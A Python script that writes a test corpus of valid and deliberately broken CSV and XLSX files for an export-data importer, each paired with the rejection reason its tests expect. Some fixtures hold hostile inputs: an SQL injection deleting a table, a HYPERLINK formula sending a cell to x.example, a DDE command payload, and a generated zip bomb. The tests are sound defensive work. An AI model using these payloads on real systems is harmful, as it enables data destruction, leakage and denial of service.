"""Writes the files of this folder: good files as they really arrive and one bad file per
kind of problem. They refer to the test database (tests/conftest.py: seed 7), e.g. MAZ
has УНП 142005465 there. Run from the project root:
``.venv/bin/python tests/import_files/make_corpus.py``; EXPECTED below is what
tests/test_import_corpus.py checks each bad file against."""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent
MAZ, BELAZ = "142005465", "660091504"
NBSP = "\u00a0"

# bad file → (reason id, column) the report must name
EXPECTED = {
    "bad_missing_column.csv": ("column_missing", "quantity"),
    "bad_not_a_number.csv": ("not_a_number", "value_usd"),
    "bad_negative.csv": ("negative", "quantity"),
    "bad_month_13.csv": ("not_a_month", "month"),
    "bad_future_month.csv": ("future_month", "month"),
    "bad_unknown_enterprise.csv": ("unknown_enterprise", "enterprise"),
    "bad_unknown_heading.csv": ("unknown_heading", "hs_heading"),
    "bad_ambiguous_heading.csv": ("ambiguous_heading", "hs_heading"),
    "bad_unknown_region.csv": ("unknown_region", "region"),
    "bad_duplicate_key.csv": ("duplicate_key", ""),
    "bad_sql_injection.csv": ("unknown_region", "region"),
    "bad_formula_text.csv": ("formula", "enterprise"),
    "bad_formula_cell.xlsx": ("formula", "value_usd"),
    "bad_formula_name.csv": ("formula", "name_ru"),
    "bad_empty.csv": ("file_empty", ""),
    "bad_zero_bytes.csv": ("file_empty", ""),
    "bad_no_header.csv": ("no_header", ""),
    "bad_kind_unknown.csv": ("kind_unknown", ""),
    "bad_file_type.pdf": ("file_type", ""),
    "bad_corrupt.xlsx": ("not_readable", ""),
    "bad_ragged.csv": ("too_many_fields", ""),
    "bad_overdue_above_total.csv": ("overdue_above_total", "overdue_usd"),
    "bad_buckets.csv": ("buckets_mismatch", "overdue_usd"),
    "bad_causes.csv": ("causes_mismatch", "overdue_usd"),
    "bad_unknown_cause.csv": ("unknown_cause", "main_cause"),
    "bad_unknown_concern.csv": ("unknown_concern", "concern"),
    "bad_concern_and_oblast.csv": ("concern_or_oblast", "concern"),
    "bad_growth.csv": ("growth_too_low", "growth_pct"),
    "bad_year.csv": ("not_a_year", "year"),
    "bad_unp.csv": ("bad_unp", "unp"),
    "bad_flag.csv": ("bad_flag", "is_industrial"),
    "bad_id_taken.csv": ("id_taken", "enterprise_id"),
    "bad_unknown_subject.csv": ("unknown_subject", "subject"),
    "bad_subject_kind.csv": ("unknown_kind", "kind"),
    "bad_missing_value.csv": ("value_missing", "region"),
    # issue 10: data lost or invented
    "bad_misspelt_cause_column.csv": ("column_misspelt", "cause_othr_usd"),
    "bad_thousands_1_2_3.csv": ("not_a_number", "value_usd"),
    "bad_thousands_0_5_0.csv": ("not_a_number", "value_usd"),
    "bad_thousands_12_345_6.csv": ("not_a_number", "value_usd"),
    "bad_decimal_point_in_comma_file.csv": ("not_a_number", "value_usd"),
    "bad_huge_value.csv": ("out_of_range", "value_usd"),
    "bad_infinite.csv": ("not_a_number", "value_usd"),
    "bad_quantity_range.csv": ("out_of_range", "quantity"),
    "bad_target_range.csv": ("out_of_range", "target_usd"),
    "bad_unit_thousands.csv": ("outlier", ""),
    # issue 10: files that crash or mislead
    "bad_binary.csv": ("not_readable", ""),
    "bad_workbook_named_csv.csv": ("not_readable", ""),
    "bad_text_named_xlsx.xlsx": ("not_readable", ""),
    "bad_zip_not_workbook.xlsx": ("not_readable", ""),
    "bad_unbalanced_quote.csv": ("quote_unbalanced", ""),
    "bad_stray_quote_closed.csv": ("line_break_in_cell", ""),
    "bad_mixed_encoding.csv": ("mixed_encoding", ""),
    "bad_too_many_fields.csv": ("too_many_fields", ""),
    "bad_zip_bomb.xlsx": ("xlsx_too_large", ""),
    "bad_too_many_cells.xlsx": ("xlsx_too_many_cells", ""),
    "bad_title_block_value.xlsx": ("not_a_number", "value_usd"),
    "bad_column_twice.csv": ("column_twice", "value_usd"),
}

# bad file → the rows (as a spreadsheet shows them) its first problem names
EXPECTED_ROWS = {
    "bad_unbalanced_quote.csv": [12],
    "bad_stray_quote_closed.csv": [3],
    "bad_mixed_encoding.csv": [4],
    "bad_too_many_fields.csv": [12],
    "bad_ragged.csv": [3],
    "bad_title_block_value.xlsx": [6],
    "bad_thousands_1_2_3.csv": [3],
    "bad_huge_value.csv": [3],
}

EXPORTS_HEAD = "month;enterprise;hs_heading;region;value_usd;quantity"
RECEIVABLES_HEAD = ("month;enterprise;region;total_usd;overdue_usd;overdue_upto_30_usd;"
                    "overdue_31_90_usd;overdue_91_180_usd;overdue_over_180_usd")


def write(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.encode(encoding))


def exports_csv(*rows: str, head: str = EXPORTS_HEAD) -> str:
    return "\n".join([head, *rows]) + "\n"


def good_files() -> None:
    # Russian-locale Excel: Windows-1251, semicolons, decimal commas, spaces (also
    # non-breaking) as thousands separators, months as 09.2026, regions by Russian name
    write("good_exports_cp1251.csv", exports_csv(
        f"09.2026;{MAZ};8704;Москва;12{NBSP}500{NBSP}000,50;25",
        f"09.2026;{MAZ};87.01;Санкт-Петербург;3 100 000,00;7",
        "09.2026;BelAZ;8704;RU-KEM;24 000 000;3,5",
        "", ""), encoding="cp1251")
    # UTF-8 with BOM, commas, dates for months, quoted decimal commas, short region code
    write("good_exports_bom_comma.csv", "\ufeff" + "\n".join([
        "month,enterprise,hs_heading,region,value_usd,quantity",
        f'2026-09-30,{MAZ},8704,MOW,"12 500 000,50",25',
        f'2026-09-30,{MAZ},8701,SPE,"3100000,00",7',
        f'2026-09-30,{BELAZ},8704,RU-KEM,24000000,"3,5"']) + "\n")
    # a title block above the header, a named sheet, number and date cells, empty tail
    from datetime import datetime

    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.title = "Отчёт"
    ws.append(["Экспорт в Российскую Федерацию, сентябрь 2026"])
    ws.append(["Концерн: МАЗ / БелАЗ"])
    ws.append([])
    ws.append(["Месяц", "УНП", "ТН ВЭД", "Регион", "value_usd", "Количество"])
    ws.append([datetime(2026, 9, 1), int(MAZ), 8704, "Москва", 12500000.5, 25])
    ws.append([datetime(2026, 9, 1), int(MAZ), 8701, "Saint Petersburg", 3100000, 7])
    ws.append([datetime(2026, 9, 1), "BelAZ", 8704, "Кемеровская область — Кузбасс",
               "24 000 000", 3.5])
    for _ in range(5):
        ws.append([None] * 6)
    wb.save(HERE / "good_exports_title_block.xlsx")
    # a new enterprise and its exports in one import
    write("good_enterprises.csv", "\n".join([
        "unp;name_ru;name_en;concern;oblast;city;is_industrial;is_major",
        "190000001;ООО «Новый экспортёр»;Novy Exporter LLC;Концерн «Беллегпром»;"
        "Минская область;Borisov;да;нет"]) + "\n")
    write("good_exports_new_enterprise.csv", exports_csv(
        "2026-10;190000001;6203;RU-MOW;50 000;1 200",
        "2026-10;Novy Exporter LLC;6204;RU-SPE;20 000,5;600"))
    write("good_receivables.csv", "\n".join([
        RECEIVABLES_HEAD + ";main_cause;cause_payment_delay_by_buyer_usd;"
        "cause_consignment_terms_usd",
        f"2026-10;{MAZ};RU-MOW;5 000 000;400 000;100 000;80 000;70 000;150 000;;"
        "250 000;150 000"]) + "\n")
    write("good_targets.csv", "\n".join([
        "year;concern;oblast;target_usd;growth_pct",
        "2026;belaz;;1 500 000 000;7,5",
        "2026;;BY-MI;4 000 000 000;5"]) + "\n")
    write("good_subjects.csv", "\n".join([
        "name;kind;region;concern",
        "ООО «Торговый дом «Пример-Казань»»;trading_house;RU-TA;mtz"]) + "\n")
    write("good_stock.csv", "\n".join([
        "month;subject;enterprise;hs_heading;quantity;value_usd",
        f"2026-10;1;{MAZ};8704;40;2 000 000"]) + "\n")


def bad_files() -> None:
    ok = f"2026-09;{MAZ};8704;RU-MOW;1000;1"
    write("bad_missing_column.csv", exports_csv(
        f"2026-09;{MAZ};8704;RU-MOW;1000", head="month;enterprise;hs_heading;region;value_usd"))
    write("bad_not_a_number.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;12abc;1"))
    write("bad_negative.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1000;-5"))
    write("bad_month_13.csv", exports_csv(ok, f"13.2026;{MAZ};8701;RU-MOW;1000;1"))
    write("bad_future_month.csv", exports_csv(ok, f"2030-01;{MAZ};8701;RU-MOW;1000;1"))
    write("bad_unknown_enterprise.csv", exports_csv(ok, "2026-09;999999999;8701;RU-MOW;1;1"))
    write("bad_unknown_heading.csv", exports_csv(ok, f"2026-09;{MAZ};9999;RU-MOW;1;1"))
    write("bad_ambiguous_heading.csv", exports_csv(ok, f"2026-09;{MAZ};84.1;RU-MOW;1;1"))
    write("bad_unknown_region.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-XXX;1;1"))
    write("bad_duplicate_key.csv", exports_csv(ok, f"09.2026;{MAZ};8704;Москва;5;1"))
    write("bad_sql_injection.csv", exports_csv(
        ok, f"2026-09;{MAZ};8701;\"RU-MOW'); DELETE FROM exports; --\";1;1"))
    write("bad_formula_text.csv", exports_csv(
        ok, '2026-09;=HYPERLINK("http://x.example/?"&A1);8701;RU-MOW;1;1'))
    write("bad_missing_value.csv", exports_csv(ok, f"2026-09;{MAZ};8701;;1;1"))
    from openpyxl import Workbook
    wb = Workbook()
    ws = wb.active
    ws.append(["month", "enterprise", "hs_heading", "region", "value_usd", "quantity"])
    ws.append(["2026-09", MAZ, "8704", "RU-MOW", "=1000*2", 1])
    wb.save(HERE / "bad_formula_cell.xlsx")
    write("bad_formula_name.csv", "\n".join([
        "unp;name_ru;name_en;concern;oblast;city;is_industrial",
        "190000002;@SUM(1+1)*cmd|' /C calc'!A0;Evil;mtz;BY-HM;Minsk;yes"]) + "\n")
    write("bad_empty.csv", EXPORTS_HEAD + "\n;;;;;\n\n")
    write("bad_zero_bytes.csv", "")
    write("bad_no_header.csv", "this is not a template\njust some text\n1;2;3\n")
    write("bad_kind_unknown.csv", "unp;year;colour\n190000001;2026;red\n")
    write("bad_file_type.pdf", "%PDF-1.4 not really\n")
    write("bad_corrupt.xlsx", "PK\x03\x04 this is not a workbook")
    write("bad_ragged.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1;1;surplus;cells"))
    rec_ok = f"2026-10;{MAZ};RU-MOW;5000000;400000;100000;80000;70000;150000"
    write("bad_overdue_above_total.csv", "\n".join([
        RECEIVABLES_HEAD, rec_ok,
        f"2026-10;{MAZ};RU-SPE;300000;400000;100000;80000;70000;150000"]) + "\n")
    write("bad_buckets.csv", "\n".join([
        RECEIVABLES_HEAD, rec_ok,
        f"2026-10;{MAZ};RU-SPE;5000000;400000;100000;80000;70000;100000"]) + "\n")
    write("bad_causes.csv", "\n".join([
        RECEIVABLES_HEAD + ";cause_payment_delay_by_buyer_usd;cause_other_usd",
        rec_ok + ";300000;100000", f"2026-10;{MAZ};RU-SPE;5000000;400000;100000;80000;"
        "70000;150000;300000;1000"]) + "\n")
    write("bad_unknown_cause.csv", "\n".join([
        RECEIVABLES_HEAD + ";main_cause", rec_ok + ";weather"]) + "\n")
    write("bad_unknown_concern.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;;1000;5\n2026;no-such-concern;;1000;5\n")
    write("bad_concern_and_oblast.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;BY-MI;1000;5\n")
    write("bad_growth.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;;1000;-100\n")
    write("bad_year.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "1999;belaz;;1000;5\n")
    ent_head = "enterprise_id;unp;name_ru;name_en;concern;oblast;city;is_industrial"
    write("bad_unp.csv", ent_head + "\n;12345;Имя;Name;mtz;BY-HM;Minsk;yes\n")
    write("bad_flag.csv", ent_head + "\n;190000003;Имя;Name;mtz;BY-HM;Minsk;maybe\n")
    write("bad_id_taken.csv", ent_head + "\n1;190000004;Имя;Name;mtz;BY-HM;Minsk;yes\n")
    write("bad_unknown_subject.csv", "month;subject;enterprise;hs_heading;quantity;value_usd\n"
          f"2026-10;ООО «Нет такого»;{MAZ};8704;1;1\n")
    write("bad_subject_kind.csv", "name;kind;region;concern\n"
          "ООО «Новый склад»;shop;RU-TA;mtz\n")


def issue10_files() -> None:
    """The bad files of issue 10 (data lost or invented; files that crash or mislead)."""
    import zipfile

    ok = f"2026-09;{MAZ};8704;RU-MOW;12 000 000;10"
    rec_ok = f"2026-10;{MAZ};RU-MOW;5000000;400000;100000;80000;70000;150000"
    write("bad_misspelt_cause_column.csv", "\n".join([
        RECEIVABLES_HEAD + ";cause_payment_delay_by_buyer_usd;cause_othr_usd",
        rec_ok + ";300000;100000"]) + "\n")
    write("good_exports_extra_columns.csv", exports_csv(
        ok + ";checked by IT;", f"2026-09;{MAZ};8701;RU-SPE;3 000 000;7;;срочно",
        head=EXPORTS_HEAD + ";comment;Примечание"))
    write("bad_thousands_1_2_3.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1,2,3;1"))
    write("bad_thousands_0_5_0.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;0,5,0;1"))
    write("bad_thousands_12_345_6.csv",
          exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;12,345,6;1"))
    write("bad_decimal_point_in_comma_file.csv", exports_csv(
        ok, f"2026-09;{MAZ};8701;RU-MOW;3 000 000,50;1", f"2026-09;{MAZ};8702;RU-MOW;1.5;1"))
    write("bad_huge_value.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1.7e308;1"))
    write("bad_infinite.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1e400;1",
                                          f"2026-09;{MAZ};8702;RU-MOW;inf;1",
                                          f"2026-09;{MAZ};8703;RU-MOW;NaN;1"))
    write("bad_quantity_range.csv", exports_csv(ok, f"2026-09;{MAZ};8701;RU-MOW;1000;5e9"))
    write("bad_target_range.csv", "year;concern;oblast;target_usd;growth_pct\n"
          "2026;belaz;;1 500 000 000 000;5\n")
    # MAZ's September in thousands of USD: every cell plausible, the total a thousandth
    write("bad_unit_thousands.csv", exports_csv(
        f"2026-09;{MAZ};8704;RU-MOW;52 000;1 200", f"2026-09;{MAZ};8701;RU-SPE;26 000,5;600"))
    write("bad_binary.csv", "")
    (HERE / "bad_binary.csv").write_bytes(bytes(range(256)) * 8 + b"\x00\x01;\n" * 50)
    (HERE / "bad_workbook_named_csv.csv").write_bytes(
        (HERE / "good_exports_title_block.xlsx").read_bytes())
    write("bad_text_named_xlsx.xlsx", exports_csv(ok))
    with zipfile.ZipFile(HERE / "bad_zip_not_workbook.xlsx", "w") as zf:
        zf.writestr("readme.txt", "an archive, not a workbook")
    # row 12 opens a quotation mark that nothing closes (rows 2-11 are fine)
    rows = [f"2026-09;{MAZ};{8701 + i:04d};RU-MOW;100000;1" for i in range(10)]
    write("bad_unbalanced_quote.csv", exports_csv(
        *rows, f'2026-09;{MAZ};8711;"RU-MOW;100000;1', f"2026-09;{MAZ};8712;RU-SPE;1;1"))
    write("bad_stray_quote_closed.csv", exports_csv(
        ok, f'2026-09;{MAZ};8701;"RU-MOW;1000;1', f"2026-09;{MAZ};8702;RU-SPE;1000;1",
        f'2026-09;{MAZ};8703;RU-KEM";1000;1', f"2026-09;{MAZ};8705;RU-KEM;1000;1"))
    blob = exports_csv(f"2026-09;{MAZ};8704;Москва;12 000 000;10",
                       f"2026-09;{MAZ};8701;Москва;3 000 000;7").encode("utf-8") + \
        f"2026-09;{MAZ};8705;Москва;1 000 000;1\n".encode("cp1251") + \
        f"2026-09;{MAZ};8706;Москва;1 000 000;1\n".encode()
    (HERE / "bad_mixed_encoding.csv").write_bytes(blob)
    write("bad_too_many_fields.csv", exports_csv(
        *rows, f"2026-09;{MAZ};8711;RU-MOW;100;000;1;x", f"2026-09;{MAZ};8712;RU-SPE;1;1"))
    # 1 KiB that unpacks to 400 MiB of shared strings
    import io

    from openpyxl import Workbook
    wb = Workbook()
    wb.active.append(EXPORTS_HEAD.split(";"))
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(HERE / "bad_zip_bomb.xlsx", "w", zipfile.ZIP_DEFLATED,
                            compresslevel=9) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        with dst.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
            chunk = b"A" * 2**20
            for _ in range(400):
                fh.write(chunk)
    # a sheet that says it spans A1:Z1000000 (26 million cells)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(HERE / "bad_too_many_cells.xlsx", "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.startswith("xl/worksheets/"):
                import re
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:Z1000000"', data)
            dst.writestr(info, data)
    # a title block (rows 1-3), the header on row 4: the bad value is on sheet row 6
    wb = Workbook()
    ws = wb.active
    ws.append(["Экспорт в Российскую Федерацию, сентябрь 2026"])
    ws.append(["Концерн: МАЗ"])
    ws.append([])
    ws.append(EXPORTS_HEAD.split(";"))
    ws.append(["2026-09", MAZ, "8704", "RU-MOW", 12000000, 10])
    ws.append(["2026-09", MAZ, "8701", "RU-MOW", "12abc", 1])
    wb.save(HERE / "bad_title_block_value.xlsx")
    write("bad_column_twice.csv", exports_csv(
        ok + ";5", head=EXPORTS_HEAD + ";value_usd"))


if __name__ == "__main__":
    good_files()
    bad_files()
    issue10_files()
    missing = [n for n in EXPECTED if not (HERE / n).exists()]
    assert not missing, missing
    print(f"wrote {len(list(HERE.iterdir())) - 1} files to {HERE}")
